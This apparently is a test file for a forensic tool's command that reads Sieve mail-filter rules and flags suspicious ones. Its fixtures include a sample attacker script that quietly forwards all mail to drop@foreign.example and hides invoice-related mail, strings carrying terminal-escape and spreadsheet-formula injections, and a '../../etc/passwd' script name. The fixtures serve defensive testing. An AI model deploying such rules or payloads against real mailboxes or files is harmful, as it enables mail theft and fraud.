"""`postfall mailbox rules` from the command line: pages, JSON, files, cases, and what a hostile script does to them."""

from __future__ import annotations

import json
import os
import re
import ssl
from pathlib import Path

import pytest
import trustme
from tests.fixtures.script_server import CLOSE
from tests.fixtures.sieve_script import SieveScript

from postfall.case.cases import Cases
from postfall.mailbox.inventory import to_bytes
from postfall.mailbox.model import Depth, Inventory, ProtocolFacts

INTRUDER = b"""require ["copy", "fileinto", "imap4flags"];
# rule:[spam]
if header :contains "X-Spam-Flag" "YES" { fileinto "Junk"; }
if anyof (true)
{
    redirect :copy "drop@foreign.example";
}
if header :contains "subject" ["Rechnung", "IBAN"] { fileinto "RSS Feeds"; addflag "\\\\Seen"; stop; }
warp "x";
"""
HOSTILE = 'redirect "\x1b[31mx\u202e@y.example";\nfileinto "=cmd|x\\nBetreff";\n'.encode()
JSON_PAGE = Path(__file__).parents[2] / "docs/reference/json.md"
QUIET = b'if header :contains "list-id" "news" { fileinto "News"; }\n'


@pytest.fixture
def file(tmp_path):
    def make(data: bytes, name: str = "rules.sieve") -> str:
        (tmp_path / name).write_bytes(data)
        return str(tmp_path / name)

    return make


@pytest.fixture
def serve(tmp_path):
    """Start a server; gives the server and the options that lead to it."""
    authority = trustme.CA()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    authority.issue_cert("localhost").configure_cert(context)
    authority.cert_pem.write_to_path(tmp_path / "ca.pem")
    (tmp_path / "pw").write_text("geheim\n")
    servers = []

    def start(scripts, answers=None, **more):
        server = SieveScript(scripts, answers, tls=context, **more).__enter__()
        servers.append(server)
        return server, [
            "mailbox", "rules", server.url, "--user", "anna",
            "--ca", str(tmp_path / "ca.pem"), "--password-file", str(tmp_path / "pw"),
        ]  # fmt: skip

    yield start
    for server in servers:
        server.__exit__()


@pytest.fixture
def case(tmp_path, clock):
    with Cases.open(tmp_path / "home" / "postfall", clock, "tester") as cases:
        return cases.create("A case", zone="Europe/Berlin", language="en").id


def in_case(tmp_path, clock, case):
    return Cases.open(tmp_path / "home" / "postfall", clock, "tester").find(case)


def test_the_shape_that_others_rely_on(run, serve):
    _, words = serve({"main": INTRUDER, "asleep": QUIET}, active="main")
    result = run(*words, "--own", "anna@firma.example", "--json")
    assert (result.code, result.json["status"]) == (0, "ok")
    documented = re.search(r"^\| `mailbox rules` \| (.*?)\|", JSON_PAGE.read_text(encoding="utf-8"), re.MULTILINE)[1]
    assert set(result.data) == set(re.findall(r"`(\w+)`", documented))
    main, asleep = result.data["scripts"]
    assert (main["name"], main["active"], main["in_use"], len(main["sha256"])) == ("main", True, True, 64)
    assert (asleep["name"], asleep["active"], asleep["in_use"]) == ("asleep", False, False)
    assert main["not_understood"] == [9]
    found = [(row["line"], row["kind"], row["target"], row["severity"]) for row in main["findings"]]
    assert (6, "redirect", "drop@foreign.example", "high") in found
    assert (8, "fileinto", "RSS Feeds", "high") in found
    assert (3, "fileinto", "Junk", "info") in found
    assert [row["severity"] for row in asleep["findings"]] == ["info"]
    assert "forwards all mail" in next(row["words"] for row in main["findings"] if row["kind"] == "redirect")
    assert result.data["protocol"]["name"] == "sieve"
    assert result.err == ""


@pytest.mark.parametrize("language", ["de", "en"])
def test_the_page_begins_with_the_worst_and_says_what_to_do(run, serve, language):
    _, words = serve({"main": INTRUDER}, active="main")
    result = run(*words, "--lang", language)
    assert result.code == 0
    lines = result.out.splitlines()
    assert max(map(len, lines)) <= 80
    worst = (
        "SEHR AUFFÄLLIG (Zeile 6, „main“, aktiv)" if language == "de" else "VERY CONSPICUOUS (line 6, “main”, active)"
    )
    place = result.out.index(worst)
    assert place < result.out.index("Junk")
    assert ("Beweise" if language == "de" else "evidence") in result.out[place:]
    assert ("Webmailer" if language == "de" else "web mailer") in result.out[place:]
    assert ("Zeile 9" if language == "de" else "line 9") in result.out


def test_a_quiet_mailbox_is_told_so(run, file):
    result = run("mailbox", "rules", file(QUIET))
    assert result.code == 0
    assert "no rule forwards mail" in result.out
    assert "CONSPICUOUS" not in result.out


def test_no_rules(run, serve):
    _, words = serve({})
    result = run(*words)
    assert (result.code, result.err) == (0, "")
    assert "No filter rules lie here" in result.out


def test_a_file_says_nothing_about_active(run, file):
    result = run("mailbox", "rules", file(INTRUDER), "--json")
    (script,) = result.data["scripts"]
    assert (script["name"], script["active"], script["in_use"]) == ("rules.sieve", None, None)
    assert (result.data["url"], result.data["user"], result.data["protocol"]) == ("file:rules.sieve", "", None)
    assert "files_only" in {row["code"] for row in result.data["not_checked"]}


def test_a_folder_of_files_is_judged_together(run, file, tmp_path):
    file(b'include "b";', "a.sieve")
    file(INTRUDER, "b.sieve")
    file(b"no script", "c.txt")
    result = run("mailbox", "rules", str(tmp_path), "--json")
    assert [row["name"] for row in result.data["scripts"]] == ["a.sieve", "b.sieve"]


def test_hostile_text_reaches_no_terminal(run, file):
    result = run("mailbox", "rules", file(HOSTILE))
    assert "\x1b" not in result.out
    assert "\u202e" not in result.out
    assert "\\x1b[31mx\\u202e@y.example" in result.out


def test_the_scripts_are_written_into_a_private_folder(run, serve, tmp_path):
    names = {"main": INTRUDER, "../../etc/passwd": QUIET, "Ümläut": b"", "a/b": b"keep;", "CON": b"stop;"}
    _, words = serve(names, active="main")
    out = tmp_path / "kept"
    result = run(*words, "--out", str(out), "--json")
    assert result.code == 0
    assert sorted(row.name for row in tmp_path.iterdir() if row.is_dir()) == ["home", "kept"]
    assert out.stat().st_mode & 0o777 == 0o700
    assert all(row.stat().st_mode & 0o777 == 0o600 for row in out.iterdir())
    assert sorted(row.read_bytes() for row in out.glob("*.sieve")) == sorted(names.values())
    report = json.loads((out / "rules.json").read_text())
    assert {row["name"] for row in report["scripts"]} == set(names)
    again = run(*words, "--out", str(out), "--json")
    assert (again.code, again.json["errors"][0]["code"]) == (2, "usage")


def test_a_folder_that_cannot_be_written_leaves_nothing_behind(run, file, tmp_path):
    source = file(QUIET)
    assert run("mailbox", "rules", source, "--out", str(tmp_path / "no" / "where")).code == 2
    assert run("mailbox", "rules", source, "--out", source).code == 2
    assert Path(source).read_bytes() == QUIET


def test_a_full_disk_leaves_nothing_half_written(run, file, tmp_path, monkeypatch):
    source = file(QUIET)

    def full(_):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("postfall.cli.mailbox_rules_look.os.fsync", full)
    result = run("mailbox", "rules", source, "--out", str(tmp_path / "kept"), "--json")
    assert (result.code, result.json["errors"][0]["code"]) == (1, "store")
    assert sorted(row.name for row in tmp_path.iterdir()) == ["home", "rules.sieve"]


def test_in_a_case_login_scripts_findings_and_a_note_are_kept(run, serve, tmp_path, clock, case):
    _, words = serve({"main": INTRUDER, "asleep": QUIET}, active="main")
    journal = in_case(tmp_path, clock, case)
    mailbox = journal.add_mailbox("Anna", "imaps://localhost", "anna")
    result = run(*words, "--case", case[:8], "--json")
    assert result.code == 0, result.out
    state = in_case(tmp_path, clock, case).state()
    assert [(row.mailbox, row.protocol, row.outcome) for row in state.logins] == [
        (mailbox.id, "sieve+starttls", "ok")
    ]  # fmt: skip
    assert list(state.mailboxes) == [mailbox.id]  # the rules belong to the mailbox that is there already
    kept = {row.name: journal.read(row.sha256) for row in state.artefacts.values()}
    assert kept["main.sieve"] == INTRUDER
    assert kept["asleep.sieve"] == QUIET
    report = json.loads(kept[f"rules-{mailbox.id}.json"])
    assert [row["name"] for row in report["scripts"]] == ["main", "asleep"]
    assert result.data["report"] in state.artefacts
    (note,) = state.notes
    assert "2 scripts" in note.text
    assert "@" not in note.text


def test_a_refused_login_is_recorded_too(run, serve, tmp_path, clock, case):
    server, words = serve({"main": QUIET})
    server.password = "another"
    result = run(*words, "--case", case, "--json")
    assert (result.code, result.json["errors"][0]["code"]) == (4, "auth")
    state = in_case(tmp_path, clock, case).state()
    assert [row.outcome for row in state.logins] == ["auth"]
    assert not state.artefacts


def test_files_go_into_a_case_without_a_mailbox(run, file, tmp_path, clock, case):
    assert run("mailbox", "rules", file(INTRUDER), "--case", case, "--json").code == 0
    state = in_case(tmp_path, clock, case).state()
    assert {row.name for row in state.artefacts.values()} == {"rules.sieve", "rules-files.json"}
    assert (state.mailboxes, state.logins) == ({}, ())


def test_a_file_whose_name_is_no_text_is_read_and_kept(run, tmp_path, clock, case):
    folder = tmp_path / "scripts"
    folder.mkdir()
    try:
        (folder / os.fsdecode(b"\xffb.sieve")).write_bytes(QUIET)
    except (OSError, UnicodeError):
        pytest.skip("this file system takes no such names")
    result = run("mailbox", "rules", str(folder), "--case", case, "--json")
    assert (result.code, result.data["scripts"][0]["name"]) == (0, "?b.sieve")
    assert "?b.sieve" in {row.name for row in in_case(tmp_path, clock, case).state().artefacts.values()}


def test_own_addresses_of_the_case_count(run, file, tmp_path, clock, case):
    source = file(b'redirect "kim@firma.example";')
    journal = in_case(tmp_path, clock, case)
    journal.add_mailbox("Anna", "imaps://mail.firma.example", "anna@firma.example")
    severity = run("mailbox", "rules", source, "--case", case, "--json").data["scripts"][0]["findings"][0]["severity"]
    assert severity == "medium"


def test_a_line_that_breaks_gives_what_was_read_and_the_code_of_the_cause(run, serve, tmp_path):
    def answer(server, argument):
        return server._getscript(argument) if "main" in argument else CLOSE

    _, words = serve({"main": INTRUDER, "more": QUIET}, {"GETSCRIPT": answer}, active="main")
    result = run(*words, "--json", "--out", str(tmp_path / "kept"))
    assert (result.code, result.json["status"]) == (4, "partial")
    assert [row["name"] for row in result.data["scripts"]] == ["main"]
    assert result.json["errors"][0]["code"] == "connection_lost"
    assert len(list((tmp_path / "kept").iterdir())) == 2


def test_a_script_that_is_not_given_out_makes_it_partial_and_no_failure(run, serve):
    _, words = serve({"main": INTRUDER}, {"GETSCRIPT": b'NO "no"\r\n'})
    result = run(*words, "--json")
    assert (result.code, result.json["status"], result.data["partial"]) == (0, "partial", True)


@pytest.mark.parametrize(
    ("words", "code", "slug"),
    [
        (["nothing.sieve"], 2, "usage"),
        (["pop3s://mail.example.org", "--user", "anna"], 2, "usage"),
        (["sieve://"], 2, "usage"),
        (["sieve://anna:pw@mail.example.org"], 2, "usage"),
        (["sieve://mail.example.org", "--user", "anna"], 3, "missing_answer"),
        (["sieve://outlook.office365.com", "--user", "anna"], 4, "microsoft365"),
        (["sieve://localhost:1", "--user", "anna", "--password-command", "echo x"], 4, "refused"),
        (["rules.sieve", "--user", "anna"], 2, "usage"),
        (["rules.sieve", "--insecure-plaintext"], 2, "usage"),
    ],
)
def test_mistakes_say_what_to_do(run, file, tmp_path, monkeypatch, words, code, slug):
    file(QUIET)
    monkeypatch.chdir(tmp_path)
    result = run("mailbox", "rules", *words, "--json")
    assert (result.code, result.json["errors"][0]["code"]) == (code, slug)
    assert result.json["errors"][0]["hint"]
    assert "pw@" not in result.out


def test_scripts_that_imap_ties_to_folders_are_mentioned(run, serve, tmp_path, clock, case):
    _, words = serve({"main": QUIET}, active="main")
    journal = in_case(tmp_path, clock, case)
    mailbox = journal.add_mailbox("Anna", "imaps://localhost", "anna")
    facts = ProtocolFacts("imap", None, pipelining=False, capabilities=(), capabilities_before=())
    seen = Inventory("imaps://localhost", "anna", "2026-11-23T09:00:00+00:00", Depth.COUNTS, (), 0, 0, facts,
                     rules_stored=("INBOX: hidden-one",))  # fmt: skip
    journal.inventory(mailbox.id, to_bytes(seen), depth="counts", partial=False, messages=0, octets=0, first=None,
                      last=None)  # fmt: skip
    assert "INBOX: hidden-one" in run(*words, "--case", case).out
